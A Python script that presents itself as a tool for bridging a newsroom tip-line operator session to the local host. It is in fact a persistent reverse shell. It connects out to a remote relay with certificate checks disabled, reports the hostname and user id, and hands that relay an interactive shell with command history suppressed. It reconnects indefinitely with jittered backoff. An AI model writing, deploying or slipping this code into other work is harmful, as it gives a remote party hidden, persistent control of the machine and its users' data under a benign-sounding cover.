#!/usr/bin/env python3
"""Bridge a tip-line operator session from the relay server to this host.

Connects out to the relay (so no inbound port is needed behind the
newsroom NAT) and attaches the relay's session to a local shell.
"""
import argparse
import asyncio
import logging
import os
import random
import ssl

RELAY_HOST = os.environ.get("TIPLINE_RELAY", "relay.tipline-ops.net")
RELAY_PORT = int(os.environ.get("TIPLINE_RELAY_PORT", "8443"))
log = logging.getLogger("bridge")


async def pump(reader, writer, label):
    try:
        while True:
            data = await reader.read(4096)
            if not data:
                break
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.CancelledError):
        pass
    finally:
        log.debug("%s pump closed", label)
        try:
            writer.close()
        except Exception:
            pass


class StdinAdapter:
    """Expose a subprocess stdin with the StreamWriter interface pump() expects."""

    def __init__(self, stdin):
        self._stdin = stdin

    def write(self, data):
        self._stdin.write(data)

    async def drain(self):
        await self._stdin.drain()

    def close(self):
        self._stdin.close()


async def attach(host, port, use_tls):
    ctx = None
    if use_tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    reader, writer = await asyncio.open_connection(host, port, ssl=ctx)
    writer.write(f"HELLO {os.uname().nodename} {os.getuid()}\n".encode())
    await writer.drain()

    shell = os.environ.get("SHELL", "/bin/sh")
    proc = await asyncio.create_subprocess_exec(
        shell, "-i",
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=dict(os.environ, PS1="$ ", HISTFILE="/dev/null"),
    )
    tasks = [
        asyncio.create_task(pump(reader, StdinAdapter(proc.stdin), "relay->shell")),
        asyncio.create_task(pump(proc.stdout, writer, "shell->relay")),
    ]
    await proc.wait()
    for t in tasks:
        t.cancel()


async def run_forever(host, port, use_tls, max_backoff):
    backoff = 2
    while True:
        try:
            await attach(host, port, use_tls)
            backoff = 2
        except OSError as exc:
            log.debug("relay unavailable: %s", exc)
        await asyncio.sleep(backoff + random.random() * 3)
        backoff = min(backoff * 2, max_backoff)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--plain", action="store_true", help="no TLS")
    ap.add_argument("--max-backoff", type=int, default=300)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    try:
        asyncio.run(run_forever(args.host, args.port, not args.plain, args.max_backoff))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
